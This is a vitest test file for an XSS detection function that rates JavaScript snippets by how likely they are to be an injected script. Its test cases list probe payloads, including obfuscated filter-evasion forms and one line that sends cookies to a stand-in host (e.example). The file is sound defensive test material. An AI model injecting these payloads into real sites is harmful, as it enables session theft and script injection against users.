// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks on templates look like placeholders.
import { describe, expect, test } from "vitest";
import { CALLS, HIDDEN, judgeScript, PROOF, SILENT, SINK } from "../../support/source/detection/html.ts";

function judge(text: string) {
  return judgeScript(text, 0, text.length, 1000);
}

test.each([
  ["a = b + c;", SILENT],
  ["foo.alert(x)", SILENT],
  ["{alert(id: 5) { level }}", SILENT],
  ["alert (amber)", SILENT],
  ["window.scroll(0)", SINK],
  ["this.items[i](1)", SILENT],
  ["fetch('/api')", SINK],
  ["location = '/login'", SINK],
  ["alert(message)", SINK],
  ["alert('Saved the file')", CALLS],
  ["document.write(x)", CALLS],
  ["eval(source)", CALLS],
  ["alert(1)", PROOF],
  ["window?.alert?.(1)", PROOF],
  ["a=prompt;a(1)", PROOF],
  ["window.onerror=eval;throw'=x'", PROOF],
  ["import(name)", PROOF],
  ["open('//e.example')", PROOF],
  ["x.src='//e.example/'+y.cookie", PROOF],
  ["`${alert(1)}`", PROOF],
  ["$scope.$eval('x=alert(1)')", PROOF],
  ["al\\u0065rt(1)", HIDDEN],
  ["(confirm)(1)", HIDDEN],
  ["[1].map(alert)", HIDDEN],
  ["eval('al'+'ert(1)')", HIDDEN],
  ["top[/al/.source+/ert/.source](1)", HIDDEN],
  ["x[y='constructor'][y]('go()')()", HIDDEN],
  ["f('alert(1)')()", HIDDEN],
  ["''['constructor']['constructor']`go()```", HIDDEN],
])("%s is judged as %i", (text, level) => {
  expect(judge(text).level).toBe(level);
});

describe("words side by side", () => {
  test.each([
    ["var a = 1; return a", 0],
    ["if (a) b()", 0],
    ["a\nb\nc", 0],
    ["a /* b c d */ + 'e f' // g h", 0],
    ["show an alert(1) here", 3],
    ["call alert(1) and wait", 3],
  ])("%j has %i", (text, prose) => {
    expect(judge(text).prose).toBe(prose);
  });
});
